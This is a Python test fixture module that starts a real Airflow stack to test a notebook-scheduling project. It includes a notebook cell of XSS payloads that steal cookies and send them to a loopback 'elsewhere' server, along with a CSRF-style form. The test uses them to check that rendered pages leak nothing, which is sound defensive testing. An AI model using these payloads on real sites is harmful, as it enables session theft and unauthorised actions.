"""A real Airflow for the tests: scheduler, DAG processor and API server on SQLite, with our DAGs and DAGs of trials."""

import html
import os
import signal
import threading
import time
from contextlib import contextmanager
from datetime import datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import SimpleNamespace
from zoneinfo import ZoneInfo

import nbformat
import pytest
import requests

from pulsebook.base.settings import ROOT
from pulsebook.local import sample, services
from pulsebook.local.processes import ProcessGroup
from tests.bot_api import bot_api

MOSCOW = ZoneInfo("Europe/Moscow")
PING_KEY = "q7Xv0-secret-ping-key_Zk3"
TOKEN = "123456789:AAF-a_secret-token_of-the-bot_01234"
TRIALS = """
from datetime import timedelta
import pulsebook.chat  # a task that is stopped has five seconds for its last word: too few to import this on a busy machine
from airflow.sdk import DAG
from pulsebook.airflow import daily
from pulsebook.airflow.callbacks import notify_operations
from pulsebook.airflow.operator import RUN_DATE, NotebookOperator, run_date

with DAG("trials", schedule=None, default_args={"on_failure_callback": notify_operations}):
    report = {"run_date": "2026-01-05", "post": True}
    NotebookOperator(task_id="missing_day", notebook="reports/feed_report.ipynb", parameters=report)
    NotebookOperator(task_id="too_long", notebook="SLOW", execution_timeout=timedelta(seconds=8))
    NotebookOperator(task_id="marked_failed", notebook="SLOW")
    NotebookOperator(task_id="slow_cell", notebook="SLOW", cell_timeout=3.0)

with DAG("pages", schedule=None):
    NotebookOperator(task_id="missing_day", notebook="reports/feed_report.ipynb", parameters={"run_date": "2026-01-05"})
    NotebookOperator(task_id="hostile", notebook="HOSTILE")

with DAG("wrong", schedule=None, default_args={"retries": 2, "retry_delay": timedelta(minutes=5)}):
    NotebookOperator(task_id="code", notebook="WRONG")
    NotebookOperator(task_id="kernel", notebook="SLOW", kernel_name="nowhere")

with DAG("days", schedule=None, params={"run_date": None}, user_defined_macros={"run_date": run_date}):
    NotebookOperator(notebook="etl/load.ipynb", parameters={"run_date": RUN_DATE}, retries=2, retry_delay=timedelta(minutes=5))

with daily("00:00", file="punctual.py", doc="", run_date=None) as dag:
    NotebookOperator(task_id="first", notebook="SHORT") >> NotebookOperator(task_id="last", notebook="SHORT")

with daily("00:00", file="broken.py", doc="", run_date=None) as dag:
    NotebookOperator(task_id="code", notebook="WRONG", on_failure_callback=None)
"""
WAITS = """
import inspect
import os
import time
from datetime import datetime, timedelta
from pathlib import Path
from airflow.sdk import DAG
from airflow.timetables.trigger import CronTriggerTimetable
from pulsebook.airflow.callbacks import notify_operations
from pulsebook.airflow.operator import NotebookOperator
from pulsebook.airflow.waiting import Gate

in_a_task = any(frame.function == "parse" and "task_runner" in frame.filename for frame in inspect.stack())
if in_a_task and Path("HICCUP").exists():
    Path("HICCUP").with_suffix(".noticed").touch()
    raise ImportError("away for a moment")

daily = CronTriggerTimetable("0 0 * * *", timezone="Europe/Moscow")
tries = {"retries": 2, "retry_delay": timedelta(minutes=5), "on_failure_callback": notify_operations}
how = {"waits_for": ["messages"], "deadline": "23:59:59", "look_every": timedelta(seconds=8)}
with DAG("waits", schedule=daily, start_date=datetime(2026, 1, 1), catchup=False, default_args=tries) as dag:
    for name in ("first", "second"):  # complete is a day with a message in its last second
        NotebookOperator(task_id=name, notebook="NOTEBOOK", parameters={"quiet_hours": 0.0003}, **how)

late = {"deadline": Path("DEADLINE").read_text(), "look_every": timedelta(seconds=10)}
reports = {"late_feed": ("feed", ["feed"]), "late_app": ("app", ["feed", "messages"]), "late_etl": ("app", ["feed", "messages", "etl"])}
for name, (about, needs) in reports.items():
    with DAG(name, schedule=daily, start_date=datetime(2026, 1, 1), catchup=False, default_args=tries) as dag:
        notebook, own = f"reports/{about}_report.ipynb", {"post": True, "quiet_hours": 0.0003}
        report = NotebookOperator(task_id="report", notebook=notebook, parameters=own, waits_for=needs, **late)
        if name == "late_etl":
            rest, later = own | {"rest": True}, late | {"deadline": "23:59:59"}
            report >> NotebookOperator(task_id="rest", notebook=notebook, parameters=rest, waits_for=["etl"], **later)


class Held(Gate):
    def hold(self, *given):
        if Path("HELD").exists():
            Path("HELD").write_text(str(os.getpid()))
            time.sleep(60)
        return super().hold(*given)


tries["retry_delay"] = timedelta(seconds=1)
how |= {"look_every": timedelta(seconds=10)}
with DAG("interrupted", schedule=daily, start_date=datetime(2026, 1, 1), catchup=False, default_args=tries) as dag:
    only = NotebookOperator(task_id="only", notebook="NOTEBOOK", parameters={"quiet_hours": 0.0003}, **how)
    only.gate = Held(only.gate.waits_for, only.gate.deadline, only.gate.every)
"""
SLOW = ["import os, time\nprint('kernel', os.getpid())", "time.sleep(600)", "print('never')"]


def steal(elsewhere: str, way: str) -> str:
    """A script that takes what it can get of the session of whoever looks at it, and tells another server."""
    return f"""
        parent.document.title = document.title = "taken over";
        (new Image).src = "{elsewhere}/{way}?" + encodeURIComponent(document.cookie);
        fetch("/api/v2/dags", {{credentials: "include"}}).then(a => a.text()).then(t => fetch("{elsewhere}/{way}?" + t.length));
    """


def hostile(elsewhere: str) -> str:
    """The code of a cell whose outputs try it in every way."""

    def quoted(way: str) -> str:
        return html.escape(steal(elsewhere, way))

    tricks = [
        f"<script>{steal(elsewhere, 'script')}</script>",
        f'<img src="data:," onerror="{quoted("handler")}"><svg onload="{quoted("svg")}"></svg>',
        f'<iframe srcdoc="&lt;script&gt;{quoted("frame")}&lt;/script&gt;"></iframe>',
        f'<iframe src="data:text/html,&lt;script&gt;{quoted("data")}&lt;/script&gt;"></iframe>',
        f'<iframe src="javascript:{quoted("address")}"></iframe>',
        f'<link rel="stylesheet" href="{elsewhere}/style"><img src="{elsewhere}/picture">',
        f'<meta http-equiv="refresh" content="1; url={elsewhere}/refresh">',
        '<form id="form" method="post" action="/api/v2/dags/etl/dagRuns"><input type="submit"></form>',
        '<p id="harmless">what the notebook shows</p>',
    ]
    return f"from IPython.display import HTML, display\nfor trick in {tricks!r}:\n    display(HTML(trick))"


def notebook(*code: str, title: str = "## Wait", summary: str = ""):
    """A notebook of some code cells under a heading."""
    cells = [nbformat.v4.new_markdown_cell(title), *map(nbformat.v4.new_code_cell, code)]
    if summary:
        cells += [nbformat.v4.new_markdown_cell("## Summary"), nbformat.v4.new_code_cell(summary)]
    kernel = {"name": "python3", "language": "python", "display_name": "Python 3"}
    return nbformat.v4.new_notebook(cells=cells, metadata={"kernelspec": kernel})


@contextmanager
def recorder():
    """A server on loopback that answers everything with nothing: `url`, and the paths that were asked for (`asked`)."""
    asked = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self):
            asked.append(self.path)
            self.send_response(204)
            self.send_header("Access-Control-Allow-Origin", "*")
            self.end_headers()

        do_POST = do_GET

        def log_message(self, *_):
            pass

    listener = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    threading.Thread(target=listener.serve_forever, daemon=True).start()
    yield SimpleNamespace(url=f"http://127.0.0.1:{listener.server_port}", asked=asked)
    listener.shutdown()
    listener.server_close()


def until(happens, seconds: float, what: str, pause: float = 0.5):
    """Wait for a condition, asked for again after each pause (seconds); returns its value. A busy machine is given twice the time."""
    deadline = time.monotonic() + 2 * seconds
    while time.monotonic() < deadline:
        if value := happens():
            return value
        time.sleep(pause)
    pytest.fail(f"{what} did not happen within {2 * seconds:g} s")


UNSCHEDULED = """
from airflow.timetables.simple import NullTimetable

dag.timetable = NullTimetable()
"""


@pytest.fixture(scope="session")
def airflow(server, tmp_path_factory):
    """The services, started as `make up` starts them; the bot's token stands in an Airflow Connection.

    `cli` runs a command, `kill` ends services with all that they have started, `restart` also starts them again, `api` a request as admin, `page` one for a page of the review plugin as whoever `how` says;
    `elsewhere` is a server of which no page may know: what reached it, and its `url`; `monitor` the one that hears of scheduled runs; `stop` ends
    all of it, with the last test.
    """
    home = tmp_path_factory.mktemp("airflow")
    folder, outputs, port = home / "dags", home / "outputs", services.free_port()
    folder.mkdir()
    for dag in (ROOT / "dags").glob("*.py"):
        (folder / dag.name).symlink_to(dag)
    alerts = folder / "alerts.py"  # without a schedule: once a slot of today is checked, those of the past are no news
    alerts.unlink()
    alerts.write_text(f"{(ROOT / 'dags/alerts.py').read_text()}\n{UNSCHEDULED}")
    known = services.passwords(home, "admin", "viewer")
    served = services.served(home, port, folder, users="admin:admin,viewer:viewer")
    environment = {
        **{name: value for name, value in served.items() if not name.startswith("PULSEBOOK_")},
        "AIRFLOW__CORE__AUTH_MANAGER": "tests.per_dag.PerDag",
        services.PAUSED: "True",
        "PULSEBOOK_CLICKHOUSE_URL": server,
        "PULSEBOOK_SOURCE_DATABASE": "airflow_source",
        "PULSEBOOK_TARGET_DATABASE": "airflow_target",
        "PULSEBOOK_OUTPUTS": str(outputs),
        "AIRFLOW__WORKERS__MISSING_DAG_RETRY_DELAY": "8",
        # a task asks an API server that is away for three minutes: so long one may take to start on a busy machine
        "AIRFLOW__WORKERS__EXECUTION_API_RETRIES": "90",
        "AIRFLOW__WORKERS__EXECUTION_API_RETRY_WAIT_MAX": "2",
    }
    address = environment["AIRFLOW__API__BASE_URL"]
    sample.fill(sample.http(server), 8, 1000, 1, None, "Europe/Moscow", "airflow_source")
    outage = datetime.now(MOSCOW).replace(hour=11, minute=0, second=0, microsecond=0) - timedelta(days=3)

    def cli(*words: str) -> str:
        return services.run(environment, *words)

    def kill(*names: str) -> None:
        for member in [member for member in group.members if member.name in names]:
            os.killpg(member.pid, signal.SIGKILL)
            group.members.remove(member)

    def restart(*names: str) -> None:
        kill(*names)
        for name in names:
            services.start_one(name, group, environment)

    def bearer(user: str = "admin") -> dict:
        return services.bearer(address, user, known[user])

    def page(path: str, **how):
        return requests.get(f"{address}/pulsebook/{path}", timeout=90, **how)

    def api(method: str, path: str, **body):
        answer = requests.request(method, f"{address}/api/v2{path}", json=body or None, headers=bearer(), timeout=90)
        assert answer.ok, answer.text
        return answer.json()

    cli("db", "migrate")
    group = ProcessGroup(home / "processes")
    with bot_api() as bot, recorder() as elsewhere, recorder() as monitor:
        environment["PULSEBOOK_HEARTBEAT_URL"] = f"{monitor.url}/{PING_KEY}"
        nbformat.write(notebook(*SLOW), home / "slow.ipynb")
        summary = "print('42 rows of trial')"
        tricks = notebook(hostile(elsewhere.url), title="# Hostile\nIt tries.", summary=summary)
        nbformat.write(tricks, home / "hostile.ipynb")
        nbformat.write(notebook("print('short')"), home / "short.ipynb")
        nbformat.write(notebook("print(a_name_that_is_not_there)"), home / "wrong.ipynb")
        trials = TRIALS
        for name in ("slow", "short", "hostile", "wrong"):
            trials = trials.replace(name.upper(), str(home / f"{name}.ipynb"))
        (folder / "trials.py").write_text(trials)
        cell = nbformat.v4.new_code_cell(
            'run_date: str = ""\nquiet_hours: float = 0.0', metadata={"tags": ["parameters"]}
        )
        nbformat.write(nbformat.v4.new_notebook(cells=[cell]), home / "waits.ipynb")
        waits = WAITS.replace("NOTEBOOK", str(home / "waits.ipynb"))
        for name in ("hiccup", "held", "deadline"):
            waits = waits.replace(name.upper(), str(home / name))
        (home / "deadline").write_text("23:59:59")
        (folder / "waits.py").write_text(waits)
        try:
            cli("connections", "add", "pulsebook_telegram", "--conn-type", "generic", "--conn-host", bot.url,
                "--conn-login", "-42", "--conn-password", TOKEN, "--conn-extra", '{"ops_chat_id": "-7"}')  # fmt: skip
            services.start(group, environment)
            group.wait_for(lambda: services.healthy(environment), 480, "Airflow in good health")
            ids = {
                "trials", "pages", "days", "wrong", "punctual", "broken", "waits", "interrupted", "late_feed", "late_app", "late_etl",
                *(path.stem for path in (ROOT / "dags").glob("*.py")),
            }  # fmt: skip
            group.wait_for(lambda: {d["dag_id"] for d in api("GET", "/dags")["dags"]} >= ids, 360, "all DAGs")
            yield SimpleNamespace(
                cli=cli, kill=kill, restart=restart, healthy=lambda: services.healthy(environment), api=api, page=page, bearer=bearer, outputs=outputs, bot=bot, home=home, outage=outage,
                address=address, passwords=known, elsewhere=elsewhere,
                monitor=monitor, stop=group.stop,
            )  # fmt: skip
        finally:
            group.stop()
            assert not group.processes(), "nothing is left running"
